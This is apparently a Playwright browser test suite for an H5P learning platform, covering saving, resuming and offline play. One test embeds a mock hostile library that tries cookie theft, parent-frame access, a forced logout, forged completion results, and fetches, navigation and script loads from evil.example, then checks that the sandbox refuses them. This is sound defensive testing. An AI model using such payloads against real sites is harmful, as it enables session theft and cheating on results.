"""Interactive contents in a real browser: played, kept, resumed; and hostile ones that get nowhere."""

import json
from time import sleep

import pytest
from playwright.sync_api import Route, expect
from wagtail.models import Page as WagtailPage

from learning.evidence.kinds import Kind
from learning.evidence.models import Evidence
from learning.tracking.models import ActivityPage, Play, PlayResult, PlayState, Statement
from membership.models import User
from tests.browser.conftest import say
from tests.factories.activities import add_activity, enrolled
from tests.factories.packages import PARAMS, PNG, content, let_in, library, package, packed
from tests.factories.pages import publish
from tests.factories.people import add_user
from training_materials.models import LessonPage
from training_materials.player.tokens import address_of

pytestmark = pytest.mark.browser


@pytest.fixture
def width() -> str:
    return "phone"


@pytest.fixture
def administrator(way) -> User:
    return add_user("quantri", "Quản Trị", is_superuser=True)


@pytest.fixture
def version(way, administrator, private_files):
    return let_in(package(), by=way.standing.binh, administrator=administrator)


def stage(visitor):
    return visitor.page.frame_locator("[data-package] iframe")


def open_course(way) -> None:
    WagtailPage.objects.get(pk=way.course.pk).specific.save_revision().publish()
    way.course.refresh_from_db()


@pytest.fixture
def activity(way, version):
    passed = ActivityPage.Completion.PASSED
    page = add_activity(way.course, version.package, completion=passed, pass_mark=80)
    open_course(way)
    return page


def learner(visitor, activity):
    """An, signed in and at the activity."""
    an = visitor()
    an.come_back("an")
    an.open("/hoc-tap/ky-nang-so/thu-suc/")
    return an


def saved(visitor) -> None:
    expect(visitor.page.locator("[data-play-status]")).to_contain_text(say("Saved at {time}.").split("{")[0])


def test_an_exercise_in_a_lesson_plays_for_guests_and_stores_nothing(way, version, visitor):
    block = ("package", {"title": "Thử sức", "package": version.package})
    lesson = publish(way.course, LessonPage(title="Thực hành", slug="thuc-hanh", is_open=True, body=[block]))
    open_course(way)
    guest = visitor()
    guest.open(lesson.get_url())
    answer = stage(guest).locator(".tiny-answer").first
    answer.click()
    stage(guest).locator(".tiny-check").click()
    assert answer.get_attribute("aria-pressed") == "true"
    letters = "() => document.fonts.ready.then(fonts => [...fonts].some(font => font.status === 'loaded'))"
    assert answer.evaluate(letters)
    frame = guest.page.locator("[data-package] iframe")
    assert frame.get_attribute("sandbox") == "allow-scripts allow-forms"
    guest.check()


@pytest.mark.slow(reason="A content is played on two devices, with styles that come late.")
def test_from_launch_to_evidence_with_slow_styles_and_on_another_device(way, activity, visitor):
    enrolled(way.standing.an, way.course)

    def late(route: Route) -> None:
        sleep(0.3)
        route.continue_()

    first = visitor()
    first.page.route("**/all.css", late)
    first.page.route("**/h5p.css", late)
    first.come_back("an")
    first.open("/hoc-tap/ky-nang-so/thu-suc/")
    answer = stage(first).locator(".tiny-answer").first
    answer.click()
    assert answer.evaluate("button => getComputedStyle(button).minHeight") == "48px"
    saved(first)
    first.page.close()

    second = learner(visitor, activity)
    again = stage(second).locator(".tiny-answer").first
    expect(again).to_have_attribute("aria-pressed", "true")
    stage(second).locator(".tiny-check").click()
    expect(second.page.locator("[data-play-done]")).to_be_visible()
    second.check()
    assert Play.objects.count() == 1
    assert PlayResult.objects.get().verdict == "verified"
    assert Evidence.objects.get(kind=Kind.ACTIVITY_COMPLETED).person_id == way.standing.an.person_id


def test_two_tabs_and_a_lost_network_lose_nothing(way, activity, visitor):
    enrolled(way.standing.an, way.course)
    an = learner(visitor, activity)
    other = an.page.context.new_page()
    other.goto(an.page.url)
    there = other.frame_locator("[data-package] iframe")
    there.locator(".tiny-answer").first.wait_for()
    stage(an).locator(".tiny-answer").first.click()
    saved(an)
    other.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    expect(other.locator("[data-play-behind]")).to_be_visible()
    expect(an.page.locator("[data-play-behind]")).to_be_hidden()
    an.page.context.set_offline(True)
    stage(an).locator(".tiny-check").click()
    expect(an.page.locator("[data-play-status]")).to_have_text(
        say("Not sent yet. It is kept on this device and sent when the connection is back.")
    )
    an.page.close()
    an.page.context.set_offline(False)
    other.reload()
    expect(there.locator(".tiny-answer").first).to_have_attribute("aria-pressed", "true")
    # Told by the page itself where the other tab carried the result before it was loaded again.
    expect(other.get_by_text(say("You have finished this step")).locator("visible=true").first).to_be_visible()
    assert Play.objects.count() == 1
    assert PlayResult.objects.count() == 1
    assert PlayState.objects.count() == 1


def test_several_exercises_begin_one_at_a_time_as_they_come_into_view(way, version, visitor):
    blocks = [("package", {"title": f"Thử sức {place}", "package": version.package}) for place in range(3)]
    lesson = publish(way.course, LessonPage(title="Nhiều bài", slug="nhieu-bai", is_open=True, body=blocks))
    open_course(way)
    guest = visitor()
    guest.open(lesson.get_url())
    guest.page.frame_locator("[data-package] >> nth=0 >> iframe").locator(".tiny-answer").first.wait_for()
    last = guest.page.locator("[data-package]").nth(2)
    assert last.locator("iframe").count() == 0
    last.scroll_into_view_if_needed()
    guest.page.frame_locator("[data-package] >> nth=2 >> iframe").locator(".tiny-answer").first.wait_for()


HOSTILE = """
H5P.MultiChoice = function (params, contentId) {
  H5P.EventDispatcher.call(this);
  this.contentId = contentId;
};
H5P.MultiChoice.prototype = Object.create(H5P.EventDispatcher.prototype);
H5P.MultiChoice.prototype.constructor = H5P.MultiChoice;
H5P.MultiChoice.prototype.getXAPIData = function () {
  return { statement: { actor: { mbox: 'mailto:admin@example.vn' }, verb: { id: 'http://evil.example/passed' },
    object: { id: 'https://evil.example/course' }, result: { completion: true, success: true, response: '1',
    score: { raw: 1, max: 1, scaled: 1 } } } };
};
H5P.MultiChoice.prototype.attach = async function ($container) {
  const told = {};
  const attempt = async (name, act) => {
    try { told[name] = String(await act()); } catch (error) { told[name] = 'refused'; }
  };
  const ask = async (address, method) => (await fetch(address, { method, credentials: 'include' })).status;
  await attempt('cookie', () => document.cookie);
  await attempt('parent', () => parent.document.title);
  await attempt('parentCookie', () => parent.document.cookie);
  await attempt('storage', () => parent.localStorage.length);
  await attempt('frame', () => window.frameElement.ownerDocument.title);
  await attempt('fetch', () => ask('/hoc-tap/', 'GET'));
  await attempt('post', () => ask('/tai-khoan/logout/', 'POST'));
  await attempt('elsewhere', () => ask('https://evil.example/', 'GET'));
  await attempt('top', () => { top.location = 'https://evil.example/'; return 'went'; });
  await attempt('popup', () => (window.open('https://evil.example/') ? 'opened' : 'refused'));
  await attempt('script', () => new Promise((settle, fail) => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js'; script.onload = () => settle('ran'); script.onerror = fail;
    document.head.append(script);
  }));
  await attempt('rtc', () => (new RTCPeerConnection() ? 'made' : 'refused'));
  await attempt('eval', () => new Function('return "ran"')());
  await attempt('inline', () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = "ran"';
    document.head.append(script);
    return window.ran || 'refused';
  });
  const form = document.createElement('form');
  form.method = 'post'; form.action = '/tai-khoan/logout/'; document.body.append(form);
  await attempt('form', () => { form.submit(); return 'sent'; });
  for (let round = 0; round < 3; round++) this.triggerXAPI('completed');
  parent.postMessage({ package: 1, name: 'result', verb: 'completed', data: this.getXAPIData() }, '*');
  parent.postMessage({ package: 1, name: 'hello' }, '*');
  parent.postMessage({ package: 1, name: 'size', height: 1e9 }, '*');
  $container.append(H5P.jQuery('<pre class="told"></pre>').text(JSON.stringify(told)));
};
"""


def test_a_hostile_library_gets_nowhere(way, administrator, private_files, visitor):
    evil = library(script=HOSTILE)
    version = let_in(packed(content(PARAMS), evil), by=way.standing.binh, administrator=administrator)
    passed = ActivityPage.Completion.PASSED
    add_activity(way.course, version.package, completion=passed, pass_mark=50)
    open_course(way)
    enrolled(way.standing.an, way.course)
    an = visitor()
    an.come_back("an")
    opened = []
    an.page.context.on("page", lambda page: opened.append(page.url))
    an.open("/hoc-tap/ky-nang-so/thu-suc/")
    told = json.loads(stage(an).locator(".told").inner_text())
    assert told.pop("cookie") == ""
    assert told.pop("form") == "sent"  # the call returns; the policy stops what it asks for
    assert set(told.values()) == {"refused"}, told
    saved(an)
    assert an.page.url.endswith("/hoc-tap/ky-nang-so/thu-suc/")
    assert opened == []
    an.open("/hoc-tap/")
    assert "/login/" not in an.page.url
    assert set(PlayResult.objects.values_list("verdict", flat=True)) == {"rejected"}
    assert not Evidence.objects.exists()
    assert "evil" not in str(list(Statement.objects.values_list("body", flat=True)))


def test_a_package_opened_by_its_address_alone_runs_nothing(way, version, visitor, live_server):
    guest = visitor()
    guest.page.goto(live_server.url + address_of(version.pk))
    guest.page.wait_for_load_state("networkidle")
    assert guest.page.evaluate("typeof window.H5P") == "undefined"
    assert guest.page.evaluate("window.origin") == "null"


FETCHING = """
var H5P = H5P || {};
H5P.Timeline = function (params, contentId) { H5P.EventDispatcher.call(this); this.contentId = contentId; };
H5P.Timeline.prototype = Object.create(H5P.EventDispatcher.prototype);
H5P.Timeline.prototype.attach = function ($container) {
  const told = (name, text) => $container.append(H5P.jQuery('<p></p>').addClass(name).text(text));
  H5P.jQuery.getJSON(H5P.getLibraryPath('H5P.Timeline-1.1') + '/words.json')
    .done((words) => told('words', words.hello)).fail(() => told('words', 'refused'));
  const picture = new Image();
  picture.onload = () => {
    const canvas = document.createElement('canvas');
    canvas.getContext('2d').drawImage(picture, 0, 0);
    try { canvas.toDataURL(); told('drawn', 'readable'); } catch { told('drawn', 'tainted'); }
  };
  picture.onerror = () => told('drawn', 'refused');
  const path = H5P.getPath('images/a.png', this.contentId);
  picture.crossOrigin = H5P.getCrossOrigin(path);
  picture.src = path;
};
"""


def test_a_library_fetches_its_own_words_and_reads_the_picture_that_it_drew(way, administrator, private_files, visitor):
    files = library("H5P.Timeline", (1, 1, 0), script=FETCHING, semantics=[{"name": "x", "type": "text"}])
    more = {"H5P.Timeline-1.1/words.json": '{"hello": "Xin chào"}', "content/images/a.png": PNG}
    file = packed(content({}, main="H5P.Timeline 1.1"), files, more)
    version = let_in(file, by=way.standing.binh, administrator=administrator)
    add_activity(way.course, version.package)
    open_course(way)
    enrolled(way.standing.an, way.course)
    an = learner(visitor, version)
    expect(stage(an).locator(".words")).to_have_text("Xin chào")
    expect(stage(an).locator(".drawn")).to_have_text("readable")
    an.press("Done: on to the next step")
    assert Evidence.objects.get(kind=Kind.ACTIVITY_COMPLETED).details["how"] == "marked"


def test_what_is_wrong_is_told_by_its_cause(way, administrator, private_files, version, visitor):
    broken = library("H5P.Accordion", (1, 0, 1), script="H5P.Accordion = function () { throw new Error('x'); };")
    file = packed(content(main="H5P.Accordion 1.0"), broken)
    faulty = let_in(file, by=way.standing.binh, administrator=administrator)
    add_activity(way.course, faulty.package)
    add_activity(way.course, version.package, "Bài lành", slug="bai-lanh")
    open_course(way)
    enrolled(way.standing.an, way.course)
    an = visitor()
    an.come_back("an")
    an.open("/hoc-tap/ky-nang-so/thu-suc/")
    status = an.page.locator("[data-package-status]")
    expect(status).to_contain_text("không phải do kết nối")
    an.page.route("**/all.js", lambda route: route.abort())
    an.open("/hoc-tap/ky-nang-so/bai-lanh/")
    expect(status).to_contain_text("Không lấy được một phần")


def test_no_connection_and_a_slow_one_are_told_apart(way, activity, visitor):
    enrolled(way.standing.an, way.course)
    an, held = visitor(), []
    an.come_back("an")
    status = an.page.locator("[data-package-status]")
    an.page.route("**/mo/", lambda route: route.abort("internetdisconnected"))
    an.open("/hoc-tap/ky-nang-so/thu-suc/")
    expect(status).to_contain_text("đang mất kết nối mạng")
    an.page.unroute("**/mo/")
    an.page.route("**/all.js", lambda route: held.append(route))  # a builtin bears no mark of playwright
    an.page.clock.install()
    with an.page.expect_request("**/all.js"):
        an.page.goto(f"{an.address}/hoc-tap/ky-nang-so/thu-suc/", wait_until="commit")
    an.page.clock.fast_forward(20_000)
    expect(status).to_contain_text("Bài tải rất lâu")
    for route in held:
        route.continue_()
